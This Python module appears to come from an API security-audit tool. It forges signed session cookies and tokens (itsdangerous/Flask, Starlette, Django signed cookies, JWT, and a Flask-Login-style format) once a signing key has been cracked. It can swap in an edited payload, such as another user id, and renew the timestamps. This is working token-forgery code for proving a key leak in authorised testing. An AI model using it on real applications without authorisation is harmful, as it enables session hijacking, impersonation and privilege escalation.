"""Prove a found key: re-sign the token (same or edited payload) so the app would accept it."""

from __future__ import annotations

import base64
import json
import time
import zlib
from typing import Any

from apigrade.crack.candidates import to_bytes
from apigrade.crack.cracker import verify_key
from apigrade.crack.schemes import Scheme
from apigrade.crack.tokens import (
    LEGACY_EPOCH,
    SignedToken,
    TokenKind,
    b62_encode,
    b64url_encode,
)


class _Keep:
    def __repr__(self) -> str:
        return "KEEP"


#: Default ``payload`` of :func:`forge`: keep the original payload bytes exactly.
KEEP: Any = _Keep()


def mask_secret(secret: str) -> str:
    """All but the first and last character masked: ``"dev"`` -> ``"d*v"``; secrets of one
    or two characters are masked whole."""
    if len(secret) <= 2:
        return "*" * len(secret)
    return secret[0] + "*" * (len(secret) - 2) + secret[-1]


def _json(payload: Any) -> bytes:
    return json.dumps(payload, separators=(",", ":"), ensure_ascii=False).encode()


def _b64_maybe_compressed(data: bytes) -> str:
    """base64url, zlib-compressed with a '.' prefix when that is shorter (as itsdangerous and
    Django ``compress=True`` do)."""
    packed = zlib.compress(data)
    if len(packed) < len(data) - 1:
        return "." + b64url_encode(packed)
    return b64url_encode(data)


def _sig(scheme: Scheme, key: bytes, message: str) -> str:
    return b64url_encode(scheme.sign(key, message.encode()))


def _itsdangerous(token: SignedToken, scheme: Scheme, key: bytes, payload: Any, now: int) -> str:
    if payload is KEEP:
        body = scheme.message.decode()
        if token.timestamp is not None:
            body = body.rpartition(".")[0]
    elif token.standard_b64:  # Starlette: b64encode(json.dumps(session))
        body = base64.b64encode(json.dumps(payload).encode()).decode()
    else:
        body = _b64_maybe_compressed(_json(payload))
    if token.timestamp is not None:
        seconds = now - LEGACY_EPOCH if token.legacy_epoch else now
        body += "." + b64url_encode(seconds.to_bytes((seconds.bit_length() + 7) // 8, "big"))
    return f"{body}.{_sig(scheme, key, body)}"


def _django(token: SignedToken, scheme: Scheme, key: bytes, payload: Any, now: int) -> str:
    body = scheme.message.decode()
    if token.timestamp is not None:
        body = body.rpartition(":")[0]
    plain = isinstance(token.payload, str) and token.payload == body  # set_signed_cookie value
    if payload is not KEEP:
        body = payload if plain and isinstance(payload, str) else _b64_maybe_compressed(
            _json(payload)
        )
    if token.timestamp is not None:
        body += ":" + b62_encode(now)
    return f"{body}:{_sig(scheme, key, body)}"


def _jwt(token: SignedToken, scheme: Scheme, key: bytes, payload: Any) -> str:
    header, _, body = scheme.message.decode().partition(".")
    if payload is not KEEP:
        body = b64url_encode(_json(payload))
    signing_input = f"{header}.{body}"
    return f"{signing_input}.{_sig(scheme, key, signing_input)}"


def forge(
    token: SignedToken,
    key: str | bytes,
    payload: Any = KEEP,
    *,
    scheme: Scheme | None = None,
    now: int | None = None,
) -> str:
    """A new cookie/token signed with ``key`` that the target would accept.

    ``payload`` replaces the decoded payload (a JSON-able value; for Flask-Login the user
    id) and defaults to the original bytes. Timestamps are renewed to ``now``. Raises
    ValueError when ``key`` does not verify the token.
    """
    secret = to_bytes(key)
    scheme = scheme or verify_key(token, secret)
    if scheme is None:
        raise ValueError("the key does not verify this token")
    when = int(time.time()) if now is None else now
    if token.kind is TokenKind.ITSDANGEROUS:
        return _itsdangerous(token, scheme, secret, payload, when)
    if token.kind is TokenKind.DJANGO:
        return _django(token, scheme, secret, payload, when)
    if token.kind is TokenKind.JWT:
        return _jwt(token, scheme, secret, payload)
    user_id = scheme.message.decode() if payload is KEEP else str(payload)
    return f"{user_id}|{scheme.sign(secret, user_id.encode()).hex()}"
